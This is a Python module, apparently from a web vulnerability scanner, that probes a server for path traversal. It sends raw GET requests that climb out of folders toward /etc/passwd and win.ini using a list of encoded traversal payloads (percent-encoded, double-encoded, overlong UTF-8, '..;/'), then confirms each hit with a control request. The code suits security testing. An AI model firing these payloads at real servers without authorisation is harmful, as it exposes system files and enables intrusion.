"""Path traversal by the path itself: browsers and libraries resolve `..` before they ask, whoever attacks does not.

The request is written as it is, so that the target alone decides what `/static/../../etc/passwd` means.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from manyeyes_tools.probing.client import Asked
from manyeyes_tools.probing.entries import Entry
from manyeyes_tools.probing.probes.traversal import KNOWN, WEAKNESS, WINDOWS
from manyeyes_tools.probing.proof import Proof, marker, told

if TYPE_CHECKING:
    from collections.abc import Iterable

    from manyeyes_tools.probing.proof import Lab

USUAL = ("/", "/static/")
"""Folders that are tried wherever the pages lead."""
MOST = 10
"""So many folders are tried, the usual ones and those of the pages together."""
SAMPLE = "../../../../etc/passwd"
_UP = 10
_WAYS = (
    "../", "%2e%2e/", "..%2f", "%2e%2e%2f", ".%2e/", "..;/", "....//", "%252e%252e%252f", "..%5c", "%c0%ae%c0%ae/",
)  # fmt: skip
_ABSOLUTE = ("/", "%2f")


def folder_of(target: str) -> str:
    """The folder that a path lies in."""
    return target.partition("?")[0].rpartition("/")[0] + "/"


async def look(folders: Iterable[str], lab: Lab) -> list[Proof]:
    """Climb out of each folder in the ways that servers forget; the whole server's weakness stands for its folders'."""
    proofs: list[Proof] = []
    for folder in list(dict.fromkeys([*USUAL, *folders]))[:MOST]:
        proof = await _climb(folder, lab)
        if proof is not None:
            proofs.append(proof)
            if folder == "/":
                break
    return proofs


async def _climb(folder: str, lab: Lab) -> Proof | None:
    tails = [f"{way * _UP}etc/passwd" for way in _WAYS] + [f"{way}etc/passwd" for way in _ABSOLUTE]
    tails.append(f"{'..%5c' * _UP}windows%5cwin.ini")
    for tail in tails:
        answer = await lab.client.ask(Asked("GET", folder + tail))
        pattern, file = (WINDOWS, "win.ini") if tail.endswith("win.ini") else (KNOWN, "passwd")
        found = pattern.search(answer.body)
        if found is None:
            continue
        control = await lab.client.ask(Asked("GET", folder + tail.replace(file, marker())))
        if pattern.search(control.body):
            continue
        shown = f"A path that leaves {folder} brings the system's own {file}, and nothing like it for no such file."
        steps = (told(answer, " ".join(found[0].split())[:60]), told(control, "nothing of the kind"))
        return Proof(WEAKNESS, Entry("GET", folder), "", shown, steps)
    return None
